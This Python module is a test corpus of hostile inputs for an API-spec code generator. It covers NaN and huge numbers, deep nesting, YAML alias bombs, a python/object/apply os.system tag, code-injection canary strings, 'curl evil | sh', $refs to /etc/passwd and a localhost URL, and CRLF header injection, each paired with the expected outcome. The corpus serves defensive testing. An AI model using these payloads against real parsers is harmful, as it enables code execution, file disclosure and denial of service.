"""A hostile-spec corpus of our own: small inputs in all four formats (Apifox doc page, Apifox
project JSON, OpenAPI JSON/YAML, Apifox Markdown), each with what generation must do with it.

`expect` is "error" (a located diagnostic, exit 2, nothing written) or "ok" (generation
succeeds; the package imports and passes its own checks). `needle` is a piece of text the
diagnostic (for "error") or a warning (for "ok") must contain.

Run as a script to print, per case, what the generator does (used for the before/after figures).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

CANARY = "specgen_canary_hostile"
EVIL = f"__import__('os').system('touch {CANARY}')"


@dataclass
class Case:
    name: str
    files: dict[str, str | bytes]
    expect: str  # "error" | "ok"
    needle: str = ""
    settings: str = ""  # extra TOML lines for [tool.specgen]
    tables: str = ""  # extra TOML tables after it
    formats: tuple[str, ...] = field(default_factory=tuple)


# -- the four formats --------------------------------------------------------------------------


def docpage(
    path: str = "/things",
    method: str = "POST",
    body_schema: Any = None,
    params: Any = None,
    responses: Any = None,
    examples: Any = None,
    title: str = "A thing",
    description: str = "Makes a thing.",
    raw_body: str | None = None,
) -> str:
    body = {
        "type": "application/json",
        "jsonSchema": (
            body_schema
            if body_schema is not None
            else {"type": "object", "properties": {"name": {"type": "string"}}}
        ),
        "examples": [],
    }
    responses = (
        responses
        if responses is not None
        else [
            {
                "id": 1,
                "name": "ok",
                "code": 200,
                "contentType": "json",
                "jsonSchema": {
                    "type": "object",
                    "properties": {"id": {"type": "integer"}},
                },
            }
        ]
    )
    lines = [
        title,
        f"{method} {path}",
        "说明",
        description,
        "概览",
        "| Method | " + method + " |",
        "|---|---|",
        f"| Path | {path} |",
        "参数",
        json.dumps(params or {"path": [], "query": []}, ensure_ascii=False),
    ]
    if method in ("POST", "PUT", "PATCH"):
        lines += [
            "请求体",
            raw_body if raw_body is not None else json.dumps(body, ensure_ascii=False),
        ]
    lines += ["响应", json.dumps(responses, ensure_ascii=False)]
    lines += ["响应示例", json.dumps(examples or [], ensure_ascii=False)]
    return "\n".join(lines) + "\n"


def native(
    api: dict[str, Any] | None = None,
    models: list[dict[str, Any]] | None = None,
    apis: list[dict[str, Any]] | None = None,
) -> str:
    items = []
    for index, one in enumerate(apis if apis is not None else [api or {}]):
        items.append(
            {
                "name": one.get("name", f"api {index}"),
                "api": {
                    "id": str(100 + index),
                    "method": "get",
                    "path": "/demo",
                    "parameters": {},
                    "responses": [
                        {
                            "id": "1",
                            "code": 200,
                            "contentType": "json",
                            "jsonSchema": {
                                "type": "object",
                                "properties": {"ok": {"type": "boolean"}},
                            },
                        }
                    ],
                    **{k: v for k, v in one.items() if k != "name"},
                },
            }
        )
    project = {
        "apifoxProject": "1.0.0",
        "info": {"name": "hostile"},
        "apiCollection": [{"name": "根目录", "items": items}],
        "schemaCollection": [{"name": "根目录", "items": models or []}],
    }
    return json.dumps(project, ensure_ascii=False, indent=2)


def native_model(ident: str, name: str, schema: Any) -> dict[str, Any]:
    return {
        "id": f"#/definitions/{ident}",
        "name": name,
        "schema": {"jsonSchema": schema},
    }


def openapi_doc(
    paths: dict[str, Any] | None = None, schemas: dict[str, Any] | None = None
) -> dict[str, Any]:
    return {
        "openapi": "3.0.1",
        "info": {"title": "hostile", "version": "1"},
        "paths": (
            paths
            if paths is not None
            else {
                "/things": {
                    "get": {
                        "operationId": "listThings",
                        "responses": {
                            "200": {
                                "description": "ok",
                                "content": {
                                    "application/json": {
                                        "schema": {"$ref": "#/components/schemas/Thing"}
                                    }
                                },
                            }
                        },
                    }
                }
            }
        ),
        "components": {
            "schemas": (
                schemas
                if schemas is not None
                else {
                    "Thing": {
                        "type": "object",
                        "properties": {"id": {"type": "integer"}},
                    }
                }
            )
        },
    }


def openapi_json(paths: Any = None, schemas: Any = None) -> str:
    return json.dumps(openapi_doc(paths, schemas), ensure_ascii=False, indent=2)


def openapi_yaml(paths: Any = None, schemas: Any = None) -> str:
    """YAML written as JSON flow (valid YAML) inside a block document, so cases can splice."""
    import yaml

    return yaml.safe_dump(
        openapi_doc(paths, schemas), allow_unicode=True, sort_keys=False
    )


def operation(
    operation_id: str | None = "op",
    parameters: list[Any] | None = None,
    body: Any = None,
    response: Any = None,
    **extra: Any,
) -> dict[str, Any]:
    op: dict[str, Any] = {
        "responses": {
            "200": {
                "description": "ok",
                "content": {
                    "application/json": {
                        "schema": (
                            response
                            if response is not None
                            else {
                                "type": "object",
                                "properties": {"id": {"type": "integer"}},
                            }
                        )
                    }
                },
            }
        },
        **extra,
    }
    if operation_id is not None:
        op["operationId"] = operation_id
    if parameters:
        op["parameters"] = parameters
    if body is not None:
        op["requestBody"] = {"content": {"application/json": {"schema": body}}}
    return op


def query(name: str, schema: Any = None, where: str = "query", **extra: Any) -> Any:
    return {
        "name": name,
        "in": where,
        "required": where == "path",
        "schema": schema or {"type": "string"},
        **extra,
    }


MARKDOWN_HEAD = """\
---
title: hostile
generator: "@tarslib/widdershins v4.0.30"

---

# hostile

Base URLs:

* <a href="https://api.example.com">正式环境: https://api.example.com</a>

# 默认模块

"""


def markdown(
    op_id: str = "getThing",
    method: str = "GET",
    path: str = "/things/{id}",
    title: str = "Get a thing",
    rows: str = "|id|path|integer| 是 ||none|",
    response_json: str = '{"id": 1}',
    extra: str = "",
    description: str = "Reads one thing.",
) -> str:
    return MARKDOWN_HEAD + f"""<a id="opId{op_id}"></a>

## {method} {title}

{method} {path}

{description}

### 请求参数

|名称|位置|类型|必选|中文名|说明|
|---|---|---|---|---|---|
{rows}

> 返回示例

> 200 Response

```json
{response_json}
```

### 返回结果

|状态码|状态码含义|说明|数据模型|
|---|---|---|---|
|200|[OK](https://tools.ietf.org/html/rfc7231#section-6.3.1)|成功|Inline|
{extra}"""


# -- the cases -----------------------------------------------------------------------------------


def nested_json(depth: int) -> str:
    return "[" * depth + "]" * depth


def deep_schema(depth: int) -> dict[str, Any]:
    schema: dict[str, Any] = {"type": "string"}
    for level in range(depth):
        schema = {"type": "object", "properties": {f"l{level}": schema}}
    return schema


BILLION_LAUGHS = """\
openapi: 3.0.1
info: {title: lol, version: "1"}
x-a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
x-b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
x-c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
x-d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
x-e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
x-f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
x-g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
x-h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
x-i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
paths: {}
"""

MERGE_BOMB = """\
openapi: 3.0.1
info: {title: lol, version: "1"}
x-a: &a {a0: 1, a1: 1, a2: 1, a3: 1, a4: 1, a5: 1, a6: 1, a7: 1, a8: 1, a9: 1}
x-b: &b {b0: *a, b1: *a, b2: *a, b3: *a, b4: *a, b5: *a, b6: *a, b7: *a, b8: *a, b9: *a}
x-c: &c {c0: *b, c1: *b, c2: *b, c3: *b, c4: *b, c5: *b, c6: *b, c7: *b, c8: *b, c9: *b}
x-d: &d {d0: *c, d1: *c, d2: *c, d3: *c, d4: *c, d5: *c, d6: *c, d7: *c, d8: *c, d9: *c}
x-e: &e {e0: *d, e1: *d, e2: *d, e3: *d, e4: *d, e5: *d, e6: *d, e7: *d, e8: *d, e9: *d}
x-f: &f {f0: *e, f1: *e, f2: *e, f3: *e, f4: *e, f5: *e, f6: *e, f7: *e, f8: *e, f9: *e}
x-g: &g {g0: *f, g1: *f, g2: *f, g3: *f, g4: *f, g5: *f, g6: *f, g7: *f, g8: *f, g9: *f}
paths: {}
"""

SELF_ALIAS = """\
openapi: 3.0.1
info: {title: loop, version: "1"}
x-loop: &loop
  again: *loop
paths: {}
"""

SELF_ALIAS_LIST = """\
openapi: 3.0.1
info: {title: loop, version: "1"}
paths:
  /a:
    get:
      responses:
        "200":
          description: &d [1, *d]
"""


def _yaml_with(schema_yaml: str, key: str = "maximum") -> str:
    return f"""\
openapi: 3.0.1
info: {{title: numbers, version: "1"}}
paths:
  /n:
    get:
      operationId: numbers
      parameters:
        - name: n
          in: query
          schema:
            type: number
            {key}: {schema_yaml}
      responses:
        "200": {{description: ok}}
"""


HUGE = "9" * 5000
BIG_INT = str(2**63)

UNICODE_NAMES = ["名前", "naïve", "Straße", "emoji_😀", "ünïcödé"]
RUNTIME_NAMES = [
    "models",
    "rest",
    "protocol",
    "prepare",
    "self",
    "json",
    "params",
    "body",
    "files",
    "call",
    "cast",
    "Any",
    "Literal",
    "Path",
    "Callable",
]
BUILTIN_NAMES = ["id", "type", "format", "filter", "input", "list", "str", "print"]
KEYWORD_NAMES = ["class", "from", "import", "match", "case", "_", "None", "True"]
CASE_NAMES = ["userId", "user_id", "user-id", "UserId", "USER_ID", "user.id"]


def cases() -> list[Case]:
    out: list[Case] = []

    def add(
        name: str,
        files: dict[str, str | bytes],
        expect: str,
        needle: str = "",
        **extra: Any,
    ) -> None:
        out.append(Case(name, files, expect, needle, **extra))

    # -- numbers -------------------------------------------------------------------------------
    add(
        "openapi-json-nan",
        {"a.json": openapi_json().replace('"type": "integer"', '"maximum": NaN')},
        "error",
        "not a finite number",
    )
    add(
        "openapi-json-infinity-default",
        {
            "a.json": openapi_json().replace(
                '"type": "integer"', '"type": "number", "default": -Infinity'
            )
        },
        "error",
        "not a finite number",
    )
    add(
        "openapi-json-1e400",
        {"a.json": openapi_json().replace('"type": "integer"', '"maximum": 1e400')},
        "error",
        "not a finite number",
    )
    add(
        "docpage-1e999-maximum",
        {
            "a.txt": docpage(
                body_schema={"type": "object", "properties": {"n": {"type": "number"}}}
            ).replace('"type": "number"', '"type": "number", "maximum": 1e999')
        },
        "error",
        "not a finite number",
    )
    add(
        "docpage-nan-response-code",
        {"a.txt": docpage().replace('"code": 200', '"code": NaN')},
        "error",
        "not a finite number",
    )
    add(
        "native-1e400-response-code",
        {"a.apifox.json": native().replace('"code": 200', '"code": 1e400')},
        "error",
        "not a finite number",
    )
    add(
        "yaml-nan-default", {"a.yaml": _yaml_with(".nan", "default")}, "error", "finite"
    )
    add("yaml-inf-maximum", {"a.yaml": _yaml_with("1.0e+999")}, "error", "finite")
    add("yaml-huge-integer", {"a.yaml": _yaml_with(HUGE)}, "error", "integer")
    add(
        "openapi-json-huge-integer",
        {"a.json": openapi_json().replace('"type": "integer"', f'"maximum": {HUGE}')},
        "error",
        "integer",
    )
    add(
        "native-huge-integer-example",
        {
            "a.apifox.json": native().replace(
                '"type": "boolean"', f'"type": "integer", "example": {HUGE}'
            )
        },
        "error",
        "integer",
    )
    # uint64 ids and other integers past int64 are read exactly; only absurd sizes are refused
    add(
        "openapi-json-41-digit-integer",
        {
            "a.json": openapi_json().replace(
                '"type": "integer"', f'"maximum": {"9" * 41}'
            )
        },
        "error",
        "max_integer_digits",
    )
    add(
        "yaml-uint64-max-default",
        {"a.yaml": _yaml_with(str(2**64 - 1), "default")},
        "ok",
    )
    add(
        "docpage-int64-overflow-enum",
        {
            "a.txt": docpage(
                body_schema={
                    "type": "object",
                    "properties": {"n": {"type": "integer", "enum": [1, 2]}},
                }
            ).replace("[1, 2]", f"[1, {BIG_INT}]")
        },
        "ok",
    )
    add(
        "markdown-huge-integer-in-example",
        {"a.md": markdown(response_json='{"id": ' + HUGE + "}")},
        "ok",
    )
    add(
        "markdown-nan-in-example",
        {"a.md": markdown(response_json='{"id": NaN}')},
        "ok",
    )
    # -- nesting -------------------------------------------------------------------------------
    add(
        "openapi-json-nested-5000",
        {
            "a.json": openapi_json().replace(
                '"type": "integer"',
                f'"type": "integer", "example": {nested_json(5000)}',
            )
        },
        "error",
        "nest",
    )
    add(
        "native-nested-100000",
        {
            "a.apifox.json": native().replace(
                '"type": "boolean"', f'"type": "boolean", "x": {nested_json(100000)}'
            )
        },
        "error",
        "nest",
    )
    add(
        "yaml-flow-nested-5000",
        {"a.yaml": _yaml_with(nested_json(5000), "example")},
        "error",
        "nest",
    )
    add(
        "yaml-block-nested-2000",
        {
            "a.yaml": "openapi: 3.0.1\ninfo: {title: t, version: '1'}\npaths: {}\nx-deep:\n"
            + "".join("  " * (i + 1) + f"k{i}:\n" for i in range(2000))
            + "  " * 2001
            + "v\n"
        },
        "error",
        "nest",
    )
    add(
        "docpage-nested-5000",
        {
            "a.txt": docpage(body_schema={"type": "object", "properties": {}}).replace(
                '"properties": {}', f'"properties": {{}}, "x": {nested_json(5000)}'
            )
        },
        "error",
        "nest",
    )
    add(
        "markdown-nested-json-fence",
        {"a.md": markdown(response_json=nested_json(5000))},
        "ok",
    )
    add(
        "docpage-schema-depth-26-is-fast",
        {"a.txt": docpage(body_schema=deep_schema(26))},
        "ok",
    )
    add(
        "openapi-schema-depth-60",
        {"a.json": openapi_json(schemas={"Thing": deep_schema(60)})},
        "error",
        "nest",
    )
    add(
        "openapi-schema-depth-60-allowed-by-config",
        {"a.json": openapi_json(schemas={"Thing": deep_schema(60)})},
        "ok",
        tables="[tool.specgen.limits]\nmax_depth = 200\n",
    )
    # -- YAML ----------------------------------------------------------------------------------
    add("yaml-billion-laughs", {"a.yaml": BILLION_LAUGHS}, "error", "alias")
    add("yaml-merge-bomb", {"a.yaml": MERGE_BOMB}, "error", "alias")
    add("yaml-self-alias-mapping", {"a.yaml": SELF_ALIAS}, "error", "refers to itself")
    add(
        "yaml-self-alias-list", {"a.yaml": SELF_ALIAS_LIST}, "error", "refers to itself"
    )
    add(
        "yaml-python-tag",
        {
            "a.yaml": "openapi: 3.0.1\ninfo: !!python/object/apply:os.system ['touch x']\npaths: {}\n"
        },
        "error",
        "YAML",
    )
    add(
        "yaml-booleans-where-strings-expected",
        {
            "a.yaml": openapi_yaml(
                paths={
                    "/b": {
                        "get": operation(
                            operation_id=None,
                            parameters=[query("flag")],
                            summary="x",
                            tags=["t"],
                        )
                    }
                }
            )
            .replace("summary: x", "summary: true\n      description: false")
            .replace("- t", "- true")
            .replace("name: flag", "name: true")
        },
        "ok",
    )
    add(
        "yaml-docsite-bomb",
        {
            "a.md": "# page\n\n## OpenAPI Specification\n\n```yaml\n"
            + BILLION_LAUGHS
            + "```\n"
        },
        "error",
        "alias",
    )
    # -- references ----------------------------------------------------------------------------
    # A ref that leaves the document is a located error (external_refs allows project files).
    for fmt in ("docpage", "native", "openapi-json", "openapi-yaml", "docsite-md"):
        for label, ref in (
            ("file-url", "file:///etc/passwd"),
            ("absolute", "/etc/hostname"),
            ("parent", "../outside.json"),
            ("dev-zero", "file:///dev/zero"),
            ("http", "http://127.0.0.1:9/never.json"),
        ):
            if fmt != "docpage" and label in ("absolute", "dev-zero"):
                continue
            add(
                f"{fmt}-ref-{label}",
                {_ext(fmt): _with_ref(fmt, ref)},
                "error",
                "leaves the document",
            )
    add(
        "markdown-link-to-url-model",
        {
            "a.md": markdown(
                rows="|id|path|integer| 是 ||none|\n|q|query|[x](file:///etc/passwd)| 否 ||none|"
            )
        },
        "ok",
    )
    add(
        "openapi-allof-cycle",
        {
            "a.json": openapi_json(
                schemas={
                    "Thing": {"allOf": [{"$ref": "#/components/schemas/Other"}]},
                    "Other": {
                        "allOf": [{"$ref": "#/components/schemas/Thing"}],
                        "properties": {"x": {"type": "string"}},
                    },
                }
            )
        },
        "error",
        "cycle",
    )
    add(
        "native-self-reference-is-a-model-reference",
        {
            "a.apifox.json": native(
                {
                    "responses": [
                        {
                            "id": "1",
                            "code": 200,
                            "contentType": "json",
                            "jsonSchema": {"$ref": "#/definitions/1"},
                        }
                    ]
                },
                [
                    native_model(
                        "1",
                        "Node",
                        {
                            "type": "object",
                            "properties": {
                                "next": {"$ref": "#/definitions/1"},
                                "v": {"type": "integer"},
                            },
                        },
                    )
                ],
            )
        },
        "ok",
    )
    # -- names ---------------------------------------------------------------------------------
    long_id = "get" + "VeryLong" * 40
    add(
        "openapi-operation-id-300",
        {"a.json": openapi_json(paths={"/l": {"get": operation(long_id)}})},
        "ok",
    )
    add(
        "docpage-path-300",
        {
            "a.txt": docpage(
                path="/" + "segment" * 45 + "/{id}",
                method="GET",
                params={"path": [{"name": "id", "required": True, "type": "string"}]},
            )
        },
        "ok",
    )
    add(
        "markdown-operation-id-300",
        {"a.md": markdown(op_id=long_id)},
        "ok",
    )
    add(
        "openapi-methods-differing-in-case",
        {
            "a.json": openapi_json(
                paths={"/c": {"get": operation("lower"), "GET": operation("upper")}}
            )
        },
        "ok",
    )
    add(
        "native-methods-differing-in-case",
        {
            "a.apifox.json": native(
                apis=[{"method": "get", "path": "/c"}, {"method": "GET", "path": "/c"}]
            )
        },
        "ok",
    )
    add(
        "openapi-operation-ids-differing-in-case",
        {
            "a.yaml": openapi_yaml(
                paths={
                    "/a": {"get": operation("getUser")},
                    "/b": {"get": operation("GetUser")},
                    "/c": {"get": operation("get_user")},
                }
            )
        },
        "ok",
    )
    add(
        "openapi-runtime-names-as-parameters",
        {
            "a.json": openapi_json(
                paths={
                    "/r": {
                        "post": operation(
                            "runtimeNames",
                            parameters=[query(n) for n in RUNTIME_NAMES],
                            body={
                                "type": "object",
                                "properties": {
                                    f"b_{n}": {"type": "string"}
                                    for n in RUNTIME_NAMES[:3]
                                },
                            },
                        )
                    }
                }
            )
        },
        "ok",
    )
    add(
        "docpage-runtime-names-as-body-fields",
        {
            "a.txt": docpage(
                body_schema={
                    "type": "object",
                    "properties": {n: {"type": "string"} for n in RUNTIME_NAMES},
                    "required": ["models", "self"],
                }
            )
        },
        "ok",
    )
    add(
        "openapi-builtins-and-keywords-as-parameters",
        {
            "a.yaml": openapi_yaml(
                paths={
                    "/k/{id}": {
                        "get": operation(
                            "keywords",
                            parameters=[query("id", {"type": "integer"}, "path")]
                            + [query(n) for n in BUILTIN_NAMES[1:] + KEYWORD_NAMES],
                        )
                    }
                }
            )
        },
        "ok",
    )
    add(
        "native-names-differing-in-case-and-punctuation",
        {
            "a.apifox.json": native(
                {
                    "parameters": {
                        "query": [
                            {"name": n, "type": "string", "required": False}
                            for n in CASE_NAMES
                        ]
                    }
                }
            )
        },
        "ok",
    )
    add(
        "markdown-unicode-and-keyword-parameters",
        {
            "a.md": markdown(
                rows="\n".join(
                    ["|id|path|integer| 是 ||none|"]
                    + [
                        f"|{n}|query|string| 否 ||none|"
                        for n in [*UNICODE_NAMES, "class", "type"]
                    ]
                )
            )
        },
        "ok",
    )
    add(
        "openapi-schema-names-like-library-types",
        {
            "a.json": openapi_json(
                paths={
                    "/t": {
                        "get": operation(
                            "types",
                            response={
                                "type": "object",
                                "properties": {
                                    n: {"$ref": f"#/components/schemas/{n}"}
                                    for n in (
                                        "Decimal",
                                        "IPv4Address",
                                        "Base64Str",
                                        "AwareDatetime",
                                        "UUID",
                                        "date",
                                    )
                                }
                                | {
                                    "d": {"type": "string", "format": "decimal"},
                                    "ip": {"type": "string", "format": "ipv4"},
                                    "b": {"type": "string", "format": "base64"},
                                    "t": {"type": "string", "format": "date-time"},
                                    "u": {"type": "string", "format": "uuid"},
                                    "day": {"type": "string", "format": "date"},
                                },
                            },
                        )
                    }
                },
                schemas={
                    n: {"type": "object", "properties": {"v": {"type": "string"}}}
                    for n in (
                        "Decimal",
                        "IPv4Address",
                        "Base64Str",
                        "AwareDatetime",
                        "UUID",
                        "date",
                    )
                },
            )
        },
        "ok",
    )
    add(
        "docpage-properties-named-like-keywords",
        {
            "a.txt": docpage(
                body_schema={
                    "type": "object",
                    "properties": {
                        n: {"type": "string"}
                        for n in (
                            "default",
                            "enum",
                            "example",
                            "$ref",
                            "properties",
                            "type",
                            "required",
                            "$defs",
                            "const",
                        )
                    },
                    "required": ["$ref"],
                }
            )
        },
        "ok",
    )
    add(
        "openapi-properties-named-like-keywords-in-shared-model",
        {
            "a.json": openapi_json(
                schemas={
                    "Thing": {
                        "type": "object",
                        "properties": {
                            "$ref": {
                                "type": "string",
                                "example": "#/components/schemas/Thing",
                            },
                            "default": {"type": "integer", "default": 3},
                            "enum": {"type": "string", "enum": ["a", "$ref"]},
                            "items": {"type": "string"},
                        },
                    }
                }
            )
        },
        "ok",
    )
    # -- unicode -------------------------------------------------------------------------------
    add(
        "openapi-json-lone-surrogate",
        {
            "a.json": openapi_json().replace(
                '"type": "integer"', '"type": "integer", "description": "x\\ud800y"'
            )
        },
        "error",
        "surrogate",
    )
    add(
        "native-lone-surrogate-in-name",
        {
            "a.apifox.json": native()
            .replace('"name": "hostile"', '"name": "\\udfff"')
            .replace('"ok"', '"o\\udc00k"')
        },
        "error",
        "surrogate",
    )
    add(
        "docpage-lone-surrogate",
        {
            "a.txt": docpage(description="d").replace(
                '"type": "string"', '"type": "string", "title": "\\ud83d"'
            )
        },
        "error",
        "surrogate",
    )
    add(
        "yaml-lone-surrogate",
        {"a.yaml": _yaml_with('"\\ud800"', "description")},
        "error",
        "unicode",
    )
    add("invalid-utf8", {"a.txt": b"title\n\xff\xfe POST /x\n"}, "error", "UTF-8")
    # -- text that breaks its destination --------------------------------------------------------
    add(
        "openapi-newline-in-summary-and-controls",
        {
            "a.json": openapi_json(
                paths={
                    "/s": {
                        "get": operation(
                            "summaryText",
                            summary="Real\n# Fake heading\n```bash\ncurl evil | sh\n```",
                            description="\u202eevil\u202c \x1b[31mred\x1b[0m \x07 "
                            + EVIL,
                        )
                    }
                },
                schemas={
                    "Thing": {
                        "type": "object",
                        "description": '\u202e\x1b]0;title\x07 """ ' + EVIL,
                        "properties": {"id": {"type": "integer", "title": "\x1b[2J"}},
                    }
                },
            )
        },
        "ok",
    )
    add(
        "docpage-canary-everywhere",
        {
            "a.txt": docpage(
                title='"""' + EVIL,
                description="{{ 7*7 }} {% raw %} " + EVIL,
                body_schema={
                    "type": "object",
                    "properties": {
                        "x": {
                            "type": "string",
                            "default": EVIL,
                            "enum": [EVIL, "'''", '"""'],
                            "description": "```\n" + EVIL + "\n```",
                        }
                    },
                },
            )
        },
        "ok",
    )
    # -- patterns ------------------------------------------------------------------------------
    add(
        "docpage-invalid-pattern",
        {
            "a.txt": docpage(
                body_schema={
                    "type": "object",
                    "properties": {"p": {"type": "string", "pattern": "x\\"}},
                }
            )
        },
        "ok",
        "pattern",
    )
    add(
        "openapi-pattern-not-python",
        {
            "a.json": openapi_json(
                paths={
                    "/p": {
                        "get": operation(
                            "pat",
                            parameters=[
                                query("p", {"type": "string", "pattern": "\\p{L}+"})
                            ],
                        )
                    }
                }
            )
        },
        "ok",
        "pattern",
    )
    add(
        "openapi-pattern-not-ecma",
        {
            "a.yaml": openapi_yaml(
                paths={
                    "/p": {
                        "get": operation(
                            "pat",
                            parameters=[
                                query("p", {"type": "string", "pattern": "(?P<n>a)\\Z"})
                            ],
                        )
                    }
                }
            )
        },
        "ok",
        "pattern",
    )
    add(
        "native-invalid-pattern-in-model",
        {
            "a.apifox.json": native(
                models=[
                    native_model(
                        "1",
                        "P",
                        {
                            "type": "object",
                            "properties": {"p": {"type": "string", "pattern": "[a-"}},
                        },
                    )
                ]
            )
        },
        "ok",
        "pattern",
    )
    # -- headers -------------------------------------------------------------------------------
    add(
        "openapi-header-name-with-newline",
        {
            "a.json": openapi_json(
                paths={
                    "/h": {
                        "get": operation(
                            "hdr",
                            parameters=[query("X-A\r\nInjected: 1", where="header")],
                        )
                    }
                }
            )
        },
        "error",
        "header",
    )
    add(
        "native-header-default-with-control",
        {
            "a.apifox.json": native(
                {
                    "parameters": {
                        "header": [
                            {
                                "name": "X-Trace",
                                "type": "string",
                                "example": "a\r\nb",
                                "schema": {"type": "string", "default": "a\nb"},
                            }
                        ]
                    }
                }
            )
        },
        "error",
        "header",
    )
    add(
        "docpage-header-name-with-space",
        {
            "a.txt": docpage(
                method="GET",
                # required: an optional one that cannot be sent is left out with a warning
                params={
                    "header": [
                        {"name": "Bad Header", "type": "string", "required": True}
                    ]
                },
            )
        },
        "error",
        "header",
    )
    # -- limits --------------------------------------------------------------------------------
    add(
        "input-size-limit",
        {"a.txt": docpage(description="x" * 5000)},
        "error",
        "max_input_bytes",
        tables="[tool.specgen.limits]\nmax_input_bytes = 2000\n",
    )
    add(
        "output-size-limit",
        {"a.txt": docpage(description="y" * 3000)},
        "error",
        "max_output_bytes",
        tables="[tool.specgen.limits]\nmax_output_bytes = 50000\n",
    )
    add(
        "yaml-alias-limit-override",
        {"a.yaml": _yaml_with("1") + "x-a: &a [1, 2, 3]\nx-b: [*a, *a, *a]\n"},
        "error",
        "max_yaml_nodes",
        tables="[tool.specgen.limits]\nmax_yaml_nodes = 40\n",
    )
    add(
        "unknown-limit-key",
        {"a.txt": docpage()},
        "error",
        "limits",
        tables="[tool.specgen.limits]\nmax_everything = 1\n",
    )
    # -- malformed structure -------------------------------------------------------------------
    add(
        "openapi-path-item-not-object",
        {
            "a.json": openapi_json(
                paths={"/x": 5, "/y": {"get": [1, 2]}, "/z": {"get": {"responses": []}}}
            )
        },
        "ok",
    )
    add(
        "native-collection-items-not-objects",
        {"a.apifox.json": native().replace('"items": []', '"items": 5')},
        "ok",
    )
    add(
        "docpage-parameters-not-list",
        {"a.txt": docpage(method="GET", params={"query": 5, "path": {"a": 1}})},
        "error",
        "expected a list",
    )
    add("empty-file", {"a.txt": ""}, "error", "unrecognised")
    add("json-top-level-array", {"a.json": "[1, 2, 3]"}, "error", "unrecognised")
    return out


def _ext(fmt: str) -> str:
    return {
        "docpage": "a.txt",
        "native": "a.apifox.json",
        "openapi-json": "a.json",
        "openapi-yaml": "a.yaml",
        "docsite-md": "a.md",
    }[fmt]


def _with_ref(fmt: str, ref: str) -> str:
    target = {"$ref": ref}
    if fmt == "docpage":
        return docpage(
            body_schema={
                "type": "object",
                "properties": {"leak": target, "ok": {"type": "string"}},
            },
            responses=[
                {
                    "id": 1,
                    "name": "ok",
                    "code": 200,
                    "contentType": "json",
                    "jsonSchema": target,
                }
            ],
        )
    if fmt == "native":
        return native(
            {
                "method": "post",
                "requestBody": {
                    "type": "application/json",
                    "jsonSchema": {"type": "object", "properties": {"leak": target}},
                },
            },
            [
                native_model(
                    "1", "Leak", {"type": "object", "properties": {"x": target}}
                )
            ],
        )
    schemas = {
        "Thing": {
            "type": "object",
            "properties": {"id": {"type": "integer"}, "leak": target},
        }
    }
    paths = {
        "/r": {
            "post": operation(
                "refs",
                body={"type": "object", "properties": {"leak": target}},
                response={"$ref": "#/components/schemas/Thing"},
            )
        }
    }
    if (
        fmt == "docsite-md"
    ):  # a documentation site's page with the OpenAPI document inside
        return f"# page\n\n## OpenAPI Specification\n\n```yaml\n{openapi_yaml(paths, schemas)}```\n"
    return (
        openapi_json(paths, schemas)
        if fmt == "openapi-json"
        else openapi_yaml(paths, schemas)
    )


if __name__ == "__main__":  # pragma: no cover - the measuring script
    import sys
    import tempfile
    import time
    import traceback
    from pathlib import Path

    sys.setrecursionlimit(10000)
    from generator import cli

    wanted = set(sys.argv[1:])
    for case in cases():
        if wanted and case.name not in wanted:
            continue
        with tempfile.TemporaryDirectory() as folder:
            root = Path(folder) / "project"
            (root / "specs").mkdir(parents=True)
            (Path(folder) / "outside.json").write_text(
                '{"type": "string", "title": "OUTSIDE_SECRET"}'
            )
            for name, content in case.files.items():
                data = content.encode() if isinstance(content, str) else content
                (root / "specs" / name).write_bytes(data)
            (root / "pyproject.toml").write_text(
                '[tool.specgen]\ninputs = ["specs/*"]\nout = "generated"\npackage = "hostile_api"\n'
                + case.settings
                + "\n"
                + case.tables
            )
            start = time.perf_counter()
            try:
                code = cli.main(
                    ["generate", "--config", str(root / "pyproject.toml"), "--no-cache"]
                )
                outcome = f"exit {code}"
            except BaseException as exc:
                outcome = "TRACEBACK " + type(exc).__name__ + ": " + str(exc)[:100]
                traceback.print_exc(file=sys.stdout) if "-v" in sys.argv else None
            print(
                f"{case.name:55} {case.expect:5} {time.perf_counter() - start:6.1f}s {outcome}",
                flush=True,
            )
